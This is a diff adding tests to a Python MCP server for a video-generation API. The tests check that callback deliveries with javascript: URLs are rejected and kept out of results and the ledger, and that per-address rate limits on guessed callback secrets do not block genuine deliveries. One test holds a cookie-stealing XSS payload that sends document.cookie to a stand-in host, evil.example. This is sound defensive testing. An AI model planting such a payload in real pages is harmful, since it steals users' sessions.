@@ -29,7 +29,7 @@ from starlette.requests import Request
 from starlette.responses import Response
 from starlette.types import Receive, Scope, Send
 
-from luma_mcp.callbacks import CallbackIssuer, callback_hash
+from luma_mcp.callbacks import MISSES_PER_MINUTE, CallbackIssuer, callback_hash
 from luma_mcp.errors import LumaRequestError
 from luma_mcp.http_app import create_http_app
 from luma_mcp.ledger import SQLiteLedger
@@ -177,6 +177,28 @@ async def test_only_the_right_secret_for_the_right_task_records_anything(
             }
 
 
+async def test_a_delivered_javascript_url_reaches_no_result_or_row(
+    sim_server: SimulatorServer, private_folders: Path
+) -> None:
+    """A genuine delivery (its own secret and task) whose video and thumbnail are `javascript:`
+    URLs: taken, recorded as failed with the reason, and no result or ledger cell holds them."""
+    sim_server.simulator.processing_seconds = 120
+    evil = "javascript:fetch('https://evil.example/?'+document.cookie)"
+    with callback_server(sim_server.url) as server:
+        async with client(server.url) as remote:
+            task_id = task_of(await remote.call_tool("generate_video", {"prompt": "Evil", "wait_seconds": 0})).task_id
+            body = {**succeeded_body(sim_server.url, task_id), "video_url": evil, "thumbnail_url": evil}
+            assert (
+                await deliver(server, secret_in(callback_url(sim_server.simulator, "Evil")), body)
+            ).status_code == 204
+            seen = [await remote.call_tool("get_task", {"task_id": task_id}), await remote.call_tool("list_tasks", {})]
+    [task] = seen[0].structured_content["tasks"]
+    assert task["status"] == "failed" and task["error"]["code"] == "unusable_video_url"
+    for result in seen:
+        assert "javascript" not in text_of(result) and "javascript" not in json.dumps(result.structured_content)
+    assert all("javascript" not in cell for cell in every_cell(private_folders / "ledger.sqlite3"))
+
+
 async def test_malformed_deliveries_are_refused_before_the_ledger(
     sim_server: SimulatorServer, private_folders: Path
 ) -> None:
@@ -273,6 +295,95 @@ async def test_a_flood_of_unknown_secrets_is_cut_off(sim_server: SimulatorServer
     refused = next(a for a in answers if a.status_code == 429)
     assert int(refused.headers["retry-after"]) >= 1
     assert rows(private_folders / "ledger.sqlite3") == []
+
+
+async def test_an_address_over_its_miss_budget_still_delivers_genuine_callbacks(sim_server: SimulatorServer) -> None:
+    """The provider's address, behind the same proxy as a guesser (or guessing itself), has
+    spent its misses: its misses get 429, its genuine deliveries are still taken."""
+    sim_server.simulator.processing_seconds = 120
+
+    async def guess_until_refused(server: ServerThread, most: int) -> list[int]:
+        codes: list[int] = []
+        while not codes or (codes[-1] != 429 and len(codes) < most):
+            codes.append((await deliver(server, secrets.token_urlsafe(32), {"task_id": "x"})).status_code)
+        return codes
+
+    with callback_server(sim_server.url) as server:
+        async with client(server.url) as remote:
+            task_id = task_of(await remote.call_tool("generate_video", {"prompt": "Mine", "wait_seconds": 0})).task_id
+            assert (await guess_until_refused(server, 2 * MISSES_PER_MINUTE))[-1] == 429
+            secret = secret_in(callback_url(sim_server.simulator, "Mine"))
+            genuine = await deliver(server, secret, succeeded_body(sim_server.url, task_id))
+            again = await guess_until_refused(server, 5)  # a token or two refilled meanwhile, no more
+            [done] = (await remote.call_tool("get_task", {"task_id": task_id})).structured_content["tasks"]
+    assert genuine.status_code == 204 and done["status"] == "succeeded"
+    assert again[-1] == 429  # misses still spend the address's budget
+
+
+def task_id_written(ledger: Path, prompt: str) -> bool:
+    """Whether the submit of `prompt` has its task id in the ledger (a callback before it gets 503)."""
+    with sqlite3.connect(ledger) as db:
+        found = db.execute("SELECT task_id FROM tasks WHERE json_extract(params, '$.prompt') = ?", (prompt,))
+        return any(task_id for (task_id,) in found.fetchall())
+
+
+async def test_guesses_from_many_addresses_never_refuse_a_genuine_delivery(
+    sim_server: SimulatorServer, private_folders: Path
+) -> None:
+    """25 addresses (forwarded by a trusted loopback proxy) send 750 guesses, more than the old
+    overall budget of 600 misses a minute let through. Then the provider's deliveries, from a
+    fresh address and from one that guessed too, are taken at once, and the one a call is
+    waiting on wakes it. (An address over its own budget: the test before.)"""
+    sim = sim_server.simulator
+    sim.processing_seconds = 120  # the simulator's own callbacks come long after this test
+    ledger = private_folders / "ledger.sqlite3"
+    guessers = [f"203.0.113.{n}" for n in range(1, 26)]
+    misses = 750
+    codes: dict[str, list[int]] = {address: [] for address in guessers}
+    answers: list[CallToolResult] = []
+    with callback_server(sim_server.url) as server:
+        async with client(server.url) as remote, httpx.AsyncClient(timeout=30) as http:
+            other = task_of(await remote.call_tool("generate_video", {"prompt": "Other", "wait_seconds": 0}))
+
+            async def post(secret: str, body: Any, address: str) -> int:
+                sent = {"X-Forwarded-For": address}
+                url = f"{server.url}/callbacks/luma/{secret}"
+                return (await http.post(url, content=json.dumps(body).encode(), headers=sent)).status_code
+
+            async def guess(address: str, stop: anyio.Event) -> None:
+                while not stop.is_set():
+                    codes[address].append(await post(secrets.token_urlsafe(32), {"task_id": "x"}, address))
+
+            async def wait_for_it() -> None:
+                answers.append(await remote.call_tool("generate_video", {"prompt": "Waited", "wait_seconds": 30}))
+
+            stop = anyio.Event()
+            async with anyio.create_task_group() as flood:
+                for address in guessers:
+                    flood.start_soon(guess, address, stop)
+                await until(lambda: sum(map(len, codes.values())) >= misses, 120, "the guesses")
+                stop.set()
+            async with anyio.create_task_group() as tg:
+                tg.start_soon(wait_for_it)
+                await until(lambda: task_id_written(ledger, "Waited"), 20, "the submit's task id")
+                [waited] = [t for t in sim.tasks.values() if t.request.get("prompt") == "Waited"]
+                waited_secret, other_secret = (
+                    secret_in(callback_url(sim, "Waited")),
+                    secret_in(callback_url(sim, "Other")),
+                )
+                delivered_at = time.monotonic()
+                genuine = [
+                    await post(waited_secret, succeeded_body(sim_server.url, waited.id), "198.51.100.9"),
+                    await post(other_secret, succeeded_body(sim_server.url, other.task_id), guessers[0]),
+                ]
+            took = time.monotonic() - delivered_at
+            assert genuine == [204, 204]
+            [done] = (await remote.call_tool("get_task", {"task_id": other.task_id})).structured_content["tasks"]
+    assert task_of(answers[0]).status == "succeeded"  # polls 30 s apart: only the delivery explains it
+    assert took < WAKE_WITHIN_SECONDS * 2, f"answered {took:.2f} s after the delivery"
+    assert done["status"] == "succeeded"
+    for address, seen in codes.items():  # each address's own budget still holds for its guesses
+        assert set(seen[:MISSES_PER_MINUTE]) == {404} and set(seen) <= {404, 429}, (address, seen)
 
 
 async def test_the_secret_is_in_no_log_row_or_result(
